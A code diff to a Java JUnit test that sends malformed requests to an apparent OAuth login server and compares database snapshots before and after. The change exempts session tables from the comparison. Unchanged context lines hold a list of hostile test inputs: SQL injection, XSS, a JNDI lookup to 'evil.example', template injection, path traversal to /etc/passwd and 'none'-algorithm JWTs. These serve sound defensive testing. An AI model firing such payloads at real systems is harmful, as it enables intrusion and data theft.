@@ -13,6 +13,7 @@ import java.util.Base64;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.Set;
 import java.util.TreeMap;
 
 import org.junit.jupiter.api.Test;
@@ -52,6 +53,9 @@ class MalformedRequestsTest {
             "http://localhost:8081/login/oauth2/code/tollgate", "http://127.0.0.1:1234/callback", "alice",
             "wrong-password", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer", "none", "consent",
             "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "eyJ0eXAiOiJKV1QifQ.e30.c2ln");
+    private static final Set<String> EXPECTED_TO_CHANGE = Set.of("login_failure", "spring_session",
+            "spring_session_attributes");
+
     private static final List<String> NASTY = List.of("' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
             "#{7*7}", "{{7*7}}", "${7*7}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%",
@@ -201,14 +205,17 @@ class MalformedRequestsTest {
         }
     }
 
-    /** Every row of every table, except the failed sign-in counts the suite is expected to add. */
+    /**
+     * Every row of every table, except the failed sign-in counts the suite is expected to add and the browser
+     * sessions its page requests open (sessions live in the database, Spring Session JDBC).
+     */
     private Map<String, List<String>> snapshot() {
         Map<String, List<String>> tables = new TreeMap<>();
         List<String> names = database.sql("SELECT table_name FROM information_schema.tables "
                         + "WHERE table_schema = 'public' AND table_type = 'BASE TABLE'")
                 .query(String.class).list();
         for (String table : names) {
-            if (!table.equals("login_failure")) {
+            if (!EXPECTED_TO_CHANGE.contains(table)) {
                 tables.put(table, database.sql("SELECT * FROM " + table)
                         .query((rs, row) -> {
                             StringBuilder line = new StringBuilder();
